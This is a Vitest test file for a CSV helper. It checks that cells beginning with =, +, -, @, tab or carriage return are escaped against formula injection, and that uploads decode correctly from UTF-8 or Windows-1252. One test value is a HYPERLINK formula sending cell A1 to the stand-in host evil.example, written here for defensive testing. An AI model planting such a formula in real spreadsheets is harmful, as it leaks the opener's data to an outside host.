import { describe, expect, it } from 'vitest';
import { decodeText, safeCell, safeRow } from './csv.js';

describe('cells a spreadsheet would run', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    '+31 SUM(A1)',
    '-2+3',
    '@SUM(A1:A9)',
    '\tindent',
    '\rline',
  ])('shows “%s” as text', (value) => {
    expect(safeCell(value)).toBe(`'${value}`);
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(safeCell('Schoonmaak gemeentehuis')).toBe('Schoonmaak gemeentehuis');
    expect(safeCell(-250)).toBe(-250);
    expect(safeCell(undefined)).toBeUndefined();
    expect(safeRow({ title: '=1+1', value: 400_000 })).toEqual({ title: "'=1+1", value: 400_000 });
  });
});

describe('the encoding of an uploaded file', () => {
  it('reads UTF-8, with or without a byte-order mark', () => {
    const text = 'Referentie;Titel\nR-1;Café de Wetering';
    expect(decodeText(new TextEncoder().encode(text))).toEqual({ text, encoding: 'utf-8' });
    expect(decodeText(new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(text)]))).toEqual({
      text,
      encoding: 'utf-8',
    });
  });

  it('reads what Dutch Excel saves (Windows-1252) without replacement characters', () => {
    // "Café ‘t Hoekje – € 1.000" in Windows-1252: é = E9, ‘ = 91, – = 96, € = 80.
    const bytes = new Uint8Array([
      0x43, 0x61, 0x66, 0xe9, 0x20, 0x91, 0x74, 0x20, 0x48, 0x6f, 0x65, 0x6b, 0x6a, 0x65, 0x20, 0x96, 0x20,
      0x80, 0x20, 0x31, 0x2e, 0x30, 0x30, 0x30,
    ]);
    const { text, encoding } = decodeText(bytes);
    expect(encoding).toBe('windows-1252');
    expect(text).toBe('Café ‘t Hoekje – € 1.000');
    expect(text).not.toContain('\uFFFD');
  });
});
